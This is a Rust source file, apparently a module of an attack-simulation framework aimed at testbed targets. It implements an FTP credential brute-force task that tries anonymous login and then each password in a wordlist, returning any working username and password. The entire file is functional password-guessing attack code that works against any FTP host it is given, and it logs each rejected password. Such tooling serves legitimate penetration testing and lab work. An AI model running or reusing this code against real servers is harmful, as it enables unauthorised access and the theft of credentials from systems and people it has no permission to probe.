//! FTP credential brute force against a testbed target.

use std::time::Duration;

use async_trait::async_trait;
use petrel_base::{StepResults, Task, TaskResult};
use serde_json::{Value, json};
use tracing::debug;

use crate::upload::ftp::open_session;

const LOGIN_TIMEOUT: Duration = Duration::from_secs(10);

/// Tries to log into an FTP server, first anonymously, then with each
/// password from a wordlist.
///
/// Exhausting the wordlist is still a `Success` — the probe completed; the
/// payload carries null credentials.
pub struct FtpBruteForce {
  name: String,
  target: String,
  username: String,
  wordlist: Vec<String>,
}

impl FtpBruteForce {
  pub fn new(
    name: impl Into<String>,
    target: impl Into<String>,
    username: impl Into<String>,
    wordlist: Vec<String>,
  ) -> Self {
    Self {
      name: name.into(),
      target: target.into(),
      username: username.into(),
      wordlist,
    }
  }
}

#[async_trait]
impl Task for FtpBruteForce {
  fn name(&self) -> &str {
    &self.name
  }

  async fn run(&self, _steps: &StepResults) -> TaskResult {
    let target = self.target.clone();
    let username = self.username.clone();
    let wordlist = self.wordlist.clone();

    match tokio::task::spawn_blocking(move || brute_force(&target, &username, &wordlist)).await {
      Ok(credentials) => TaskResult::Success(credentials),
      Err(e) => TaskResult::Failure(format!("brute force task failed: {e}")),
    }
  }
}

fn brute_force(target: &str, username: &str, wordlist: &[String]) -> Value {
  if try_login(target, "anonymous", "anonymous") {
    return json!({ "user": "anonymous", "password": "anonymous" });
  }

  for password in wordlist {
    if try_login(target, username, password) {
      return json!({ "user": username, "password": password });
    }
    debug!(host = %target, %username, %password, "login attempt rejected");
  }

  json!({ "user": null, "password": null })
}

fn try_login(target: &str, username: &str, password: &str) -> bool {
  match open_session(target, username, password, LOGIN_TIMEOUT) {
    Ok(mut ftp) => {
      let _ = ftp.quit();
      true
    }
    Err(_) => false,
  }
}
